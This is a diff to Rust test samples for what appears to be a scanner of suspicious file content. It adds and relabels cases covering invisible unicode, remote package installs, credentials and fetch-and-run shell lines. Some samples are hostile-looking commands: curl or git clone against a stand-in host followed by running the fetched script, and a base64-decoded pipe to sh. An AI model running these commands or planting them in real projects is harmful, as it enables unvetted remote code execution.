@@ -34,7 +34,7 @@ pub(crate) fn noise(length: usize) -> String {
     (0..length).map(next).collect()
 }
 
-fn tags(text: &str) -> String {
+pub(crate) fn tags(text: &str) -> String {
     text.chars().map(|c| char::from_u32(u32::from(c) + 0xe0000).unwrap()).collect()
 }
 
@@ -55,6 +55,7 @@ pub(crate) fn samples() -> Vec<Sample> {
         1,
         2,
     );
+    add("coded-unicode", "a.md", &format!("one{}\n", "\u{2000}\u{2001}".repeat(20)), 1, 4);
     add("odd-unicode", "a.md", "one\u{feff} two\n", 1, 4);
     add("odd-unicode", "a.md", "zero\u{200b}width\n", 1, 5);
     add("odd-unicode", "a.md", "red \u{1b}[31m\n", 1, 5);
@@ -112,7 +113,8 @@ pub(crate) fn samples() -> Vec<Sample> {
     add("remote-package", "a.sh", "uvx some-tool\n", 1, 1);
     add("remote-package", "a.sh", "pip install git+https://x.test/a.git\n", 1, 1);
     add("remote-package", "a.sh", "npm install https://x.test/a.tgz\n", 1, 1);
-    add("remote-package", "a.sh", "curl -o tool.sh https://x.test/t\nls\nbash tool.sh\n", 1, 1);
+    add("remote-package", "a.sh", "git clone https://x.test/r /tmp/r && sh /tmp/r/install.sh\n", 1, 1);
+    add("fetch-and-run", "a.sh", "curl -o tool.sh https://x.test/t\nls\nbash tool.sh\n", 1, 1);
 
     let decoded = [
         "echo Y3VybA== | base64 -d | sh",
@@ -146,6 +148,7 @@ pub(crate) fn samples() -> Vec<Sample> {
     add("secret", "a.js", &format!("x('{}_{}')\n", "npm", &token[..36]), 1, 4);
     add("secret", "key", &format!("-----BEGIN RSA {} KEY-----\n{}\n", "PRIVATE", noise(64)), 1, 1);
     add("secret-like", "a.py", &format!("password = \"{}\"\n", &token[..20]), 1, 13);
+    add("secret-like", "a.sh", &format!("curl -H 'Authorization: Bearer {}' x.test\n", &token[..32]), 1, 32);
     add("secret-like", "a.py", &format!("t = 'eyJ{}.eyJ{}.{}'\n", &token[..20], &token[5..40], &token[..43]), 1, 6);
     add("secret-like", "a.md", &format!("postgres://admin:{}@db.internal/x\n", &token[..16]), 1, 18);
 
